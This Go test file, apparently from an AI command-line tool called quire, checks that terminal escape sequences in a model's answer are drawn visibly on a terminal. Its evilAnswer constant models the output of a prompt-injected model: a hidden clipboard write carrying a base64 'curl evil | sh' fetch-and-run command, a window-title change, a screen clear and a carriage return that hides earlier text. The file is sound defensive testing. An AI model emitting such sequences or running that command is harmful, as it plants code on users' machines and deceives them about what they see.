package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/quire-sh/quire/engine/testserver"
)

// evilAnswer carries what a prompt injection would make a model print: a
// clipboard write (OSC 52), a window title (OSC 0), a screen clear, a C1
// CSI, a DEL and a carriage return that hides what came before it.
const evilAnswer = "done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\u009b31mred\x7f\tsafe\rfake\nnext line"

func TestVisibleDrawsControlsAsTheUIDoes(t *testing.T) {
	got := visible(evilAnswer)
	want := "done␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛]0;pwned␇␛[2J␛[H\uFFFD31mred␡\tsafe␍fake\nnext line"
	if got != want {
		t.Errorf("visible:\n got %q\nwant %q", got, want)
	}
	if s := "plain text\nwith\ttabs\n"; visible(s) != s {
		t.Errorf("plain text changed: %q", visible(s))
	}
}

// quire exec with its stdout on a terminal shows the answer's control
// sequences visibly; to a pipe it writes them byte for byte.
func TestExecOutputOnATerminalAndAPipe(t *testing.T) {
	bin := buildQuire(t)
	srv, err := testserver.Start(testserver.Script{Responses: []testserver.Response{{Text: []string{evilAnswer}}, {Text: []string{evilAnswer}}}})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	env := []string{"OPENAI_BASE_URL=" + srv.URL(), "OPENAI_API_KEY=k", "QUIRE_MODEL=test-model"}

	out, _, code, _ := runQuire(t, bin, env, "exec", "go")
	if code != 0 || out != evilAnswer+"\n" {
		t.Errorf("to a pipe: exit %d, stdout %q; want the answer byte for byte", code, out)
	}

	master, slave := openPTY(t)
	home := t.TempDir()
	cmd := exec.Command(bin, "exec", "go")
	cmd.Dir = t.TempDir()
	cmd.Env = append([]string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "XDG_CONFIG_HOME=" + home, "XDG_STATE_HOME=" + home, "QUIRE_SANDBOX=off"}, env...)
	cmd.Stdout, cmd.Stderr = slave, slave
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	slave.Close()
	var tty bytes.Buffer
	io.Copy(&tty, master) // ends with EIO once quire exits
	if err := cmd.Wait(); err != nil {
		t.Fatalf("quire exec on a terminal: %v\n%q", err, tty.String())
	}
	shown := tty.String()
	for _, raw := range []string{"\x1b", "\x07", "\x7f", "\u009b"} {
		if strings.Contains(shown, raw) {
			t.Errorf("the terminal was sent a raw %q: %q", raw, shown)
		}
	}
	if !strings.Contains(shown, "done␛]52;c;") || !strings.Contains(shown, "safe␍fake") || !strings.Contains(shown, "next line") {
		t.Errorf("the terminal shows %q", shown)
	}
}

// openPTY opens a pseudo-terminal pair; the test reads the master side.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	t.Cleanup(func() { master.Close() })
	fd := int(master.Fd())
	if err := unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	return master, slave
}
